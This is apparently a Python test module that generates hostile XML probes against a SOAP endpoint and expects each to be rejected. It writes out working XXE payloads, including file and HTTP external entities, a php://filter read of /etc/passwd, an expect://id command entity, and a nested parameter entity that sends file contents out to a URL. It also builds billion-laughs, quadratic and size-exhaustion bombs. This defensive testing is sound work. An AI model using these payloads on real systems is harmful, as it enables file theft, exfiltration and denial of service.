"""Hostile documents: document types, entities, and everything that swells."""

from collections.abc import Iterator

from tests.hostile.probe import CANARY_PIN, Probe, message, post

_DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>\n'
_PIN = f"<p:pin>{CANARY_PIN}</p:pin>"


def _with_doctype(doctype: str, pin: str = CANARY_PIN) -> str:
    return message((_DECLARATION, f"{_DECLARATION}{doctype}\n"), (_PIN, f"<p:pin>{pin}</p:pin>"))


def doctypes(file_url: str, http_url: str) -> Iterator[Probe]:
    """Document types of every kind, then two of them in every encoding and behind everything that may stand before."""
    kinds = {
        "empty": ("<!DOCTYPE e:Envelope>", CANARY_PIN),
        "another root": ("<!DOCTYPE x>", CANARY_PIN),
        "element": ("<!DOCTYPE e:Envelope [<!ELEMENT a ANY>]>", CANARY_PIN),
        "attribute default": ("<!DOCTYPE x [<!ATTLIST e:Body a CDATA 'b'>]>", CANARY_PIN),
        "notation": ("<!DOCTYPE x [<!NOTATION n SYSTEM 'n'>]>", CANARY_PIN),
        "internal entity": ("<!DOCTYPE x [<!ENTITY a '1'>]>", "&a;"),
        "file entity": (f"<!DOCTYPE x [<!ENTITY a SYSTEM '{file_url}'>]>", "&a;"),
        "http entity": (f"<!DOCTYPE x [<!ENTITY a SYSTEM '{http_url}'>]>", "&a;"),
        "public entity": (f"<!DOCTYPE x [<!ENTITY a PUBLIC 'p' '{http_url}'>]>", "&a;"),
        "unparsed entity": (f"<!DOCTYPE x [<!NOTATION n SYSTEM 'n'><!ENTITY a SYSTEM '{file_url}' NDATA n>]>", CANARY_PIN),
        "external file": (f"<!DOCTYPE x SYSTEM '{file_url}'>", CANARY_PIN),
        "external http": (f"<!DOCTYPE x SYSTEM '{http_url}'>", CANARY_PIN),
        "external public": (f"<!DOCTYPE x PUBLIC 'p' '{http_url}'>", CANARY_PIN),
        "parameter entity": ("<!DOCTYPE x [<!ENTITY % a '<!ENTITY b \"1\">'>%a;]>", "&b;"),
        "file parameter entity": (f"<!DOCTYPE x [<!ENTITY % a SYSTEM '{file_url}'>%a;]>", CANARY_PIN),
        "http parameter entity": (f"<!DOCTYPE x [<!ENTITY % a SYSTEM '{http_url}'>%a;]>", CANARY_PIN),
        "nested parameter entity": (f"<!DOCTYPE x [<!ENTITY % f SYSTEM '{file_url}'><!ENTITY % e \"<!ENTITY &#37; s SYSTEM '{http_url}?%f;'>\">%e;%s;]>", CANARY_PIN),
        "php filter": ("<!DOCTYPE x [<!ENTITY a SYSTEM 'php://filter/read=convert.base64-encode/resource=/etc/passwd'>]>", "&a;"),
        "ftp": ("<!DOCTYPE x [<!ENTITY a SYSTEM 'ftp://127.0.0.1/x'>]>", "&a;"),
        "expect": ("<!DOCTYPE x [<!ENTITY a SYSTEM 'expect://id'>]>", "&a;"),
        "jar": (f"<!DOCTYPE x [<!ENTITY a SYSTEM 'jar:{http_url}!/x'>]>", "&a;"),
        "unc path": ("<!DOCTYPE x [<!ENTITY a SYSTEM '\\\\127.0.0.1\\x'>]>", "&a;"),
        "stdin": ("<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///dev/stdin'>]>", "&a;"),
        "never ends": ("<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///dev/zero'>]>", "&a;"),
        "not closed": ("<!DOCTYPE x [", CANARY_PIN),
        "small letters": ("<!doctype x>", CANARY_PIN),
        "twice": ("<!DOCTYPE x><!DOCTYPE x>", CANARY_PIN),
    }  # fmt: skip
    for name, (doctype, pin) in kinds.items():
        yield post(name, _with_doctype(doctype, pin), "fault", "invalid_soap")
    for kind in ("internal entity", "http entity"):
        doctype, pin = kinds[kind]
        for name, body, content_type in _dressed(_with_doctype(doctype, pin)):
            yield post(f"{kind}, {name}", body, "fault", "invalid_soap", content_type=content_type)


def _dressed(text: str) -> Iterator[tuple[str, bytes, str]]:
    """Write a document in many encodings, and with many things before its document type."""
    plain, utf8 = "text/xml", "text/xml; charset=utf-8"
    bare = text.removeprefix(_DECLARATION)

    def declared(encoding: str) -> str:
        return f'<?xml version="1.0" encoding="{encoding}"?>\n{bare}'

    yield "BOM", b"\xef\xbb\xbf" + text.encode(), utf8
    yield "BOM twice", b"\xef\xbb\xbf" * 2 + text.encode(), utf8
    yield "UTF-16LE with BOM", b"\xff\xfe" + declared("UTF-16").encode("utf-16-le"), plain
    yield "UTF-16BE with BOM", b"\xfe\xff" + declared("UTF-16").encode("utf-16-be"), plain
    yield "UTF-16LE without BOM", declared("UTF-16LE").encode("utf-16-le"), plain
    yield "UTF-16BE without BOM", declared("UTF-16BE").encode("utf-16-be"), plain
    yield "UTF-16LE by charset", bare.encode("utf-16-le"), "text/xml; charset=utf-16le"
    yield "UTF-16BE by charset", bare.encode("utf-16-be"), "text/xml; charset=UTF-16BE"
    yield "UTF-32LE", b"\xff\xfe\0\0" + declared("UTF-32").encode("utf-32-le"), plain
    yield "UTF-32BE by charset", bare.encode("utf-32-be"), "text/xml; charset=utf-32be"
    yield "UTF-7 declared", declared("UTF-7").encode("utf-7"), plain
    yield "UTF-7 by charset", bare.encode("utf-7"), "text/xml; charset=utf-7"
    yield "EBCDIC declared", declared("IBM037").encode("cp037", "replace"), plain
    yield "EBCDIC by charset", declared("cp037").encode("cp037", "replace"), "text/xml; charset=cp037"
    yield "windows-1251", declared("windows-1251").encode("cp1251"), plain
    yield "UTF-8 said to be latin-1", text.encode(), "text/xml; charset=iso-8859-1"
    yield "behind a comment", f"<!-- > -- --><!-- -->{bare}".replace(" -- ", " ").encode(), utf8
    yield "behind a comment that shows an end", f"<!-- <e:Envelope/> ]]> -->{bare}".encode(), utf8
    yield "behind an instruction", f"<?x <!DOCTYPE?>{bare}".encode(), utf8
    yield "behind white space", (" \t\r\n" * 1000 + bare).encode(), utf8
    yield "behind a megabyte of comment", f"<!--{'x' * 1_000_000}-->{bare}".encode(), utf8
    yield "behind 10,000 comments", ("<!---->" * 10_000 + bare).encode(), utf8
    yield (
        "behind a long declaration",
        f'<?xml version="1.0"{" " * 5000}encoding="UTF-8"?>{bare}'.encode(),
        utf8,
    )
    yield "XML 1.1", text.replace('"1.0"', '"1.1"', 1).encode(), utf8


def _bomb(levels: int, width: int) -> str:
    entities = ['<!ENTITY e0 "xxxxxxxxxx">']
    entities += [f'<!ENTITY e{n} "{f"&e{n - 1};" * width}">' for n in range(1, levels)]
    return f"<!DOCTYPE x [{''.join(entities)}]>"


def entities() -> Iterator[Probe]:
    """Bombs of entities, and references to what is no character."""
    yield post("billion laughs", _with_doctype(_bomb(10, 10), "&e9;"), "fault", "invalid_soap")
    yield post(
        "quadratic", _with_doctype(f'<!DOCTYPE x [<!ENTITY e "{"x" * 50_000}">]>', "&e;" * 5_000), "fault"
    )
    yield post(
        "recursion", _with_doctype('<!DOCTYPE x [<!ENTITY e "&f;"><!ENTITY f "&e;">]>', "&e;"), "fault"
    )
    yield post("in an attribute", _with_doctype(_bomb(8, 10), '1</p:pin><p:pin a="&e7;">'), "fault")
    yield post(
        "parameter bomb",
        _with_doctype('<!DOCTYPE x [<!ENTITY % a "a"><!ENTITY % b "%a;%a;%a;">%b;]>'),
        "fault",
    )
    yield post("100,000 references", message((CANARY_PIN, "&#49;" * 100_000)), "fault", "SCHEMA")
    yield post("a legal reference", message((CANARY_PIN, f"&#x32;{CANARY_PIN[1:]}")), "legal")
    for reference in (
        "&e;", "&nbsp;", "&#0;", "&#x0;", "&#1;", "&#x1F;", "&#xD800;", "&#xDFFF;", "&#xFFFE;", "&#xFFFF;",
        "&#x110000;", "&#99999999999999999999;", "&#-1;", "&#;", "&#x;", "&;", "&", "&#49", "&#X31;", "&lt",
    ):  # fmt: skip
        yield post(f"reference {reference}", message((CANARY_PIN, reference)), "fault", "invalid_soap")
    for name, raw in {
        "NUL": b"\0", "backspace": b"\x08", "escape": b"\x1b", "lone surrogate": b"\xed\xa0\x80",
        "overlong slash": b"\xc0\xaf", "overlong NUL": b"\xc0\x80", "cut character": b"\xd0", "0xFF": b"\xff",
        "U+FFFE": b"\xef\xbf\xbe", "U+FFFF": b"\xef\xbf\xbf", "above Unicode": b"\xf4\x90\x80\x80",
        "CESU-8 pair": b"\xed\xa0\xbd\xed\xb8\x80",
    }.items():  # fmt: skip
        body = message().encode().replace(CANARY_PIN.encode(), CANARY_PIN.encode() + raw)
        yield post(f"raw {name}", body, "fault", "invalid_soap")


def sizes() -> Iterator[Probe]:
    """Depth, width, length and number of everything."""
    kept = "<x:protocolVersion>"
    subject = "<p:subject>"

    def in_header(more: str) -> str:
        return message((kept, more + kept))

    def in_body(more: str) -> str:
        return message((subject, more + subject))

    many = range(100_000)
    yield post("depth 55 in the header", in_header("<d>" * 55 + "</d>" * 55), "legal")
    for depth in (61, 300, 100_000):
        yield post(f"depth {depth}", in_body("<d>" * depth + "</d>" * depth), "fault", "invalid_soap")
    yield post("depth 100,000 never closed", in_body("<d>" * 100_000), "fault", "invalid_soap")
    for count in (257, 25_000, 100_000):
        attributes = _attributes(count)
        verdict = "either" if count == 257 else "fault"
        yield post(f"{count} attributes in the header", in_header(f"<a {attributes}/>"), verdict)
        yield post(f"{count} attributes in the body", in_body(f"<a {attributes}/>"), "fault")
    yield post(
        "2,000 attributes on each of 60 elements",
        in_header(f"<a {_attributes(2_000)}/>" * 60),
        "fault",
    )
    yield post("the same attribute twice", in_header('<a b="" b=""/>'), "fault", "invalid_soap")
    spaces = " ".join(f'xmlns:n{n}="urn:n{n}"' for n in many)
    yield post("100,000 namespaces", message(("<e:Header ", f"<e:Header {spaces} ")), "fault", "invalid_soap")
    crowd = " ".join(f'xmlns:n{n}="urn:n{n}"' for n in range(600))
    yield post("600 namespaces over 3,000 elements", in_header(f"<a {crowd}>{'<c/>' * 3_000}</a>"), "fault")
    stairs = "".join(f'<a{n} xmlns:n{n}="urn:n{n}" xmlns:m{n}="urn:m{n}">' for n in range(50))
    yield post(
        "namespaces on every step",
        in_header(stairs + "".join(f"</a{n}>" for n in reversed(range(50)))),
        "fault",
    )
    yield post("a relative namespace in the header", in_header('<a xmlns="there"/>'), "fault", "invalid_xml")
    yield post("a namespace of a megabyte", in_header(f'<a xmlns="urn:{"x" * 1_000_000}"/>'), "fault")
    yield post("a name of a megabyte", in_header(f"<{'x' * 1_000_000}/>"), "fault", "invalid_soap")
    yield post("a name of 40 kilobytes", in_header(f"<{'x' * 40_000}/>"), "fault", "invalid_soap")
    yield post(
        "a prefix of a megabyte",
        in_header(f'<{"x" * 1_000_000}:a xmlns:{"x" * 1_000_000}="urn:a"/>'),
        "fault",
    )
    yield post("an attribute's name of a megabyte", in_header(f'<a {"x" * 1_000_000}=""/>'), "fault")
    yield post("an attribute of a megabyte", in_header(f'<a b="{"x" * 1_000_000}"/>'), "either")
    for n in range(6):  # libxml2 remembers every name it ever saw: memory must not follow
        names = "".join(f"<n{n}-{k}{'x' * 80}/>" for k in range(90_000))
        yield post(f"90,000 new names, number {n}", in_header(names), "fault", "invalid_soap")
    yield post("300,000 elements", in_body("<a/>" * 300_000), "fault", "invalid_soap")
    yield post("2,000,000 elements", in_body("<a/>" * 2_000_000), "fault", "invalid_soap")
    yield post("30,000 elements in the header", in_header("<a/>" * 30_000), "either")
    yield post("100,000 comments", in_body("<!---->" * 100_000), "either")
    yield post(
        "30,000 comments in a text",
        message((CANARY_PIN, "<!---->".join(CANARY_PIN) + "<!---->" * 30_000)),
        "either",
    )
    yield post("30,000 instructions", in_body("<?x?>" * 30_000), "either")
    yield post("30,000 CDATA sections", message((CANARY_PIN, "<![CDATA[1]]>" * 30_000)), "fault", "SCHEMA")
    yield post("a comment of 9 megabytes", in_body(f"<!--{'x' * 9_000_000}-->"), "either")
    yield post("an instruction of a megabyte", in_body(f"<?x {'x' * 1_000_000}?>"), "either")
    yield post("white space of 9 megabytes", in_body(" " * 9_000_000), "either")
    yield post("a PIN of a megabyte", message((CANARY_PIN, "1" * 1_000_000)), "fault", "SCHEMA")
    yield post("a PIN of 9 megabytes", message((CANARY_PIN, "1" * 9_000_000)), "fault", "SCHEMA")
    yield post("a purpose of a megabyte", message(("BENEFIT_CASE", "A" * 1_000_000)), "fault", "SCHEMA")
    yield post("a date of a megabyte", message(("1999-12-31", "1" * 1_000_000)), "fault", "SCHEMA")
    yield post("an id of 100 kilobytes", message(("MESSAGE-ID", "x" * 100_000 + "MESSAGE-ID")), "fault")
    yield post("a user of 100 kilobytes", message(("KG-officer", "x" * 100_000)), "either")
    yield post(
        "an issue of a megabyte", message(("<x:issue>CASE/1", "<x:issue>" + "x" * 1_000_000)), "either"
    )
    yield post(
        "a member code of a megabyte", message(("70000011", "7" * 1_000_000)), "fault", "AGREEMENT_MISSING"
    )
    yield post("a service code of a megabyte", message(("getLearnerStatus<", "x" * 1_000_000 + "<")), "fault")
    yield post("text beyond the bound", message((CANARY_PIN, "1" * 10_600_000)), "refused", "TOO_LARGE")
    for name, body in {"nothing": "", "white space": " \n ", "one byte": "<", "a BOM": "\ufeff", "text": "hello", "JSON": '{"pin": 1}',
                       "HTML": "<html><body/></html>", "two roots": "<a/><b/>", "cut off": message()[:700]}.items():  # fmt: skip
        yield post(f"not a document: {name}", body, "fault", "invalid_soap")


def _attributes(count: int) -> str:
    """Write attributes in an order that sorting them finds hard."""
    return " ".join(f'a{n * 7919 % count:05}=""' for n in range(count))
